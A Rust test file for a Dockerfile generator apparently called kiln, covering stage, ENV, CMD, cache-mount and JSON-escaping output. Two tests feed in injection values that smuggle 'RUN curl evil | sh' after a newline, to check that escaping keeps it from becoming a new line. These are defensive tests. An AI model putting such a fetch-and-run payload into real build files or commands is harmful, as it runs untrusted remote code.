use kiln::dockerfile::{cmd_line, generate, is_valid_env_key, json_escape};
use kiln::plan::{BuildPlan, Command, CopyDirective, CopyFrom, Stage};

fn minimal_plan() -> BuildPlan {
    BuildPlan {
        provider: "test".to_string(),
        stages: vec![Stage {
            name: "runtime".to_string(),
            base_image: "node:22-slim".to_string(),
            workdir: "/app".to_string(),
            commands: vec![],
            copy_files: vec![CopyDirective { src: ". .".to_string(), dest: ".".to_string() }],
            copy_from: vec![],
        }],
        start_command: Some("node index.js".to_string()),
        port: Some(3000),
        ..Default::default()
    }
}

#[test]
fn test_generates_syntax_directive() {
    let output = generate(&minimal_plan());
    assert!(output.starts_with("# syntax=docker/dockerfile:1"));
}

#[test]
fn test_generates_from_and_workdir() {
    let output = generate(&minimal_plan());
    assert!(output.contains("FROM node:22-slim AS runtime"));
    assert!(output.contains("WORKDIR /app"));
}

#[test]
fn test_generates_expose_and_cmd() {
    let output = generate(&minimal_plan());
    assert!(output.contains("EXPOSE 3000"));
    assert!(output.contains("CMD [\"node\", \"index.js\"]"));
}

#[test]
fn exec_form_cmd_for_shell_less_binary() {
    assert_eq!(cmd_line("/bin/app"), "CMD [\"/bin/app\"]");
    assert_eq!(
        cmd_line("bundle exec rails server -b 0.0.0.0"),
        "CMD [\"bundle\", \"exec\", \"rails\", \"server\", \"-b\", \"0.0.0.0\"]"
    );
}

#[test]
fn shell_form_cmd_when_a_shell_is_needed() {
    assert_eq!(
        cmd_line("uvicorn main:app --port ${PORT:-8000}"),
        "CMD [\"/bin/sh\", \"-c\", \"uvicorn main:app --port ${PORT:-8000}\"]"
    );
    assert_eq!(
        cmd_line("PHX_SERVER=true /app/bin/web start"),
        "CMD [\"/bin/sh\", \"-c\", \"PHX_SERVER=true /app/bin/web start\"]"
    );
}

#[test]
fn cmd_line_never_emits_raw_newline() {
    let out = cmd_line("uvicorn app --opt ${X}\nRUN curl evil | sh");
    assert!(!out.contains('\n'), "must stay one line: {out:?}");
    assert!(out.contains("\\n"), "newline should be escaped: {out}");
}

#[test]
fn cmd_line_escapes_embedded_quotes_in_exec_form() {
    let out = cmd_line("run a\"b");
    assert!(out.contains("a\\\"b"), "embedded quote must be escaped: {out}");
}

#[test]
fn generates_env_lines_sorted_and_escaped() {
    let mut plan = minimal_plan();
    plan.env.insert("NODE_ENV".to_string(), "production".to_string());
    plan.env.insert("GREETING".to_string(), "hello world".to_string());
    let out = generate(&plan);
    assert!(out.contains("ENV GREETING=\"hello world\""), "{out}");
    assert!(out.contains("ENV NODE_ENV=\"production\""), "{out}");
    assert!(out.find("ENV GREETING").unwrap() < out.find("ENV NODE_ENV").unwrap());
}

#[test]
fn env_value_cannot_break_the_dockerfile_line() {
    let mut plan = minimal_plan();
    plan.env.insert("X".to_string(), "a\nRUN curl evil | sh".to_string());
    let out = generate(&plan);
    let env_lines: Vec<_> = out.lines().filter(|l| l.starts_with("ENV X=")).collect();
    assert_eq!(env_lines.len(), 1, "newline must be escaped, not split the line: {out}");
    assert!(env_lines[0].contains("\\n"));
}

#[test]
fn invalid_env_keys_are_skipped() {
    let mut plan = minimal_plan();
    plan.env.insert("1BAD".to_string(), "x".to_string());
    plan.env.insert("has space".to_string(), "x".to_string());
    let out = generate(&plan);
    assert!(!out.contains("ENV 1BAD"));
    assert!(!out.contains("has space"));
}

#[test]
fn test_generates_cache_mounts() {
    let plan = BuildPlan {
        provider: "test".to_string(),
        stages: vec![Stage {
            name: "deps".to_string(),
            base_image: "node:22".to_string(),
            workdir: "/app".to_string(),
            commands: vec![Command { run: "npm ci".to_string(), cache_mounts: vec!["/root/.npm".to_string()] }],
            copy_files: vec![],
            copy_from: vec![],
        }],
        start_command: None,
        port: None,
        ..Default::default()
    };
    let output = generate(&plan);
    assert!(output.contains("RUN --mount=type=cache,target=/root/.npm npm ci"));
}

#[test]
fn test_generates_copy_from_stage() {
    let plan = BuildPlan {
        provider: "test".to_string(),
        stages: vec![Stage {
            name: "runtime".to_string(),
            base_image: "node:22-slim".to_string(),
            workdir: "/app".to_string(),
            commands: vec![],
            copy_files: vec![],
            copy_from: vec![CopyFrom {
                stage: "build".to_string(),
                src: "/app/dist".to_string(),
                dest: "/app/dist".to_string(),
            }],
        }],
        start_command: None,
        port: None,
        ..Default::default()
    };
    let output = generate(&plan);
    assert!(output.contains("COPY --from=build /app/dist /app/dist"));
}

#[test]
fn whole_dockerfile_for_a_two_stage_plan() {
    let mut plan = BuildPlan {
        provider: "go".to_string(),
        stages: vec![
            Stage {
                name: "build".to_string(),
                base_image: "golang:1.24".to_string(),
                workdir: "/app".to_string(),
                commands: vec![Command {
                    run: "go build -o /bin/app .".to_string(),
                    cache_mounts: vec!["/go/pkg/mod".to_string()],
                }],
                copy_files: vec![CopyDirective { src: ".".to_string(), dest: ".".to_string() }],
                copy_from: vec![],
            },
            Stage {
                name: "runtime".to_string(),
                base_image: "gcr.io/distroless/static-debian12".to_string(),
                workdir: "/".to_string(),
                commands: vec![Command { run: "true".to_string(), cache_mounts: vec![] }],
                copy_files: vec![],
                copy_from: vec![CopyFrom {
                    stage: "build".to_string(),
                    src: "/bin/app".to_string(),
                    dest: "/bin/app".to_string(),
                }],
            },
        ],
        start_command: Some("/bin/app".to_string()),
        port: Some(8080),
        paths: vec!["/opt/bin".to_string()],
        secrets: vec!["TOKEN".to_string()],
        ..Default::default()
    };
    plan.build_env.insert("CGO".to_string(), "0".to_string());
    plan.env.insert("MODE".to_string(), "prod".to_string());
    assert_eq!(
        generate(&plan),
        "# syntax=docker/dockerfile:1\n\
         \n\
         FROM golang:1.24 AS build\n\
         WORKDIR /app\n\
         ENV CGO=\"0\"\n\
         COPY . .\n\
         RUN --mount=type=secret,id=TOKEN --mount=type=cache,target=/go/pkg/mod go build -o /bin/app .\n\
         \n\
         FROM gcr.io/distroless/static-debian12 AS runtime\n\
         WORKDIR /\n\
         COPY --from=build /bin/app /bin/app\n\
         RUN true\n\
         \n\
         ENV MODE=\"prod\"\n\
         \n\
         ENV PATH=\"/opt/bin:$PATH\"\n\
         \n\
         EXPOSE 8080\n\
         CMD [\"/bin/app\"]\n"
    );
}

#[test]
fn json_escape_and_env_keys() {
    assert_eq!(json_escape("a\"b\\c\nd\te\u{1}"), "a\\\"b\\\\c\\nd\\te\\u0001");
    assert!(is_valid_env_key("_A1"));
    assert!(is_valid_env_key("NODE_ENV"));
    assert!(!is_valid_env_key(""));
    assert!(!is_valid_env_key("1A"));
    assert!(!is_valid_env_key("A-B"));
}

#[test]
fn from_lines_follow_the_stages_and_build_env_sits_in_the_build_stage() {
    let mut plan = BuildPlan {
        provider: "node".to_string(),
        stages: ["deps", "build", "runtime"]
            .iter()
            .map(|n| Stage {
                name: n.to_string(),
                base_image: format!("img-{n}"),
                workdir: "/app".to_string(),
                commands: vec![Command { run: format!("echo {n}"), cache_mounts: vec![] }],
                copy_files: vec![],
                copy_from: vec![],
            })
            .collect(),
        ..Default::default()
    };
    plan.build_env.insert("B".to_string(), "2".to_string());
    plan.build_env.insert("A".to_string(), "1".to_string());
    let text = generate(&plan);
    assert!(text.ends_with('\n'));
    let lines: Vec<&str> = text.split('\n').collect();
    assert_eq!(lines[0], "# syntax=docker/dockerfile:1");
    let froms: Vec<&str> = lines.iter().copied().filter(|l| l.starts_with("FROM ")).collect();
    assert_eq!(froms, vec!["FROM img-deps AS deps", "FROM img-build AS build", "FROM img-runtime AS runtime"]);
    let f = lines.iter().position(|l| *l == "FROM img-build AS build").unwrap();
    assert_eq!(&lines[f + 1..f + 4], &["WORKDIR /app", "ENV A=\"1\"", "ENV B=\"2\""]);
    assert_eq!(lines.iter().filter(|l| l.starts_with("ENV ")).count(), 2);
}

#[test]
fn escaped_text_reads_back_as_json() {
    for s in ["plain text", "quote \" and \\ backslash", "line\nbreak\r\tand \u{1}\u{1f}", "", "ünïcödé ✓"] {
        let literal = format!("\"{}\"", json_escape(s));
        assert_eq!(serde_json::from_str::<String>(&literal).unwrap(), s);
        assert!(json_escape(s).chars().all(|c| c as u32 >= 0x20));
    }
    assert_eq!(json_escape("nothing to escape"), "nothing to escape");
}

#[test]
fn cmd_line_reads_back_as_the_argument_vector() {
    let exec = cmd_line("node  dist/server.js --port 3000");
    assert!(exec.starts_with("CMD "));
    assert_eq!(serde_json::from_str::<Vec<String>>(&exec[4..]).unwrap(), vec!["node", "dist/server.js", "--port", "3000"]);
    let shell = cmd_line("echo \"$HOME\" && run\nnext");
    assert_eq!(
        serde_json::from_str::<Vec<String>>(&shell[4..]).unwrap(),
        vec!["/bin/sh", "-c", "echo \"$HOME\" && run\nnext"]
    );
    assert_eq!(serde_json::from_str::<Vec<String>>(&cmd_line("   ")[4..]).unwrap(), Vec::<String>::new());
}
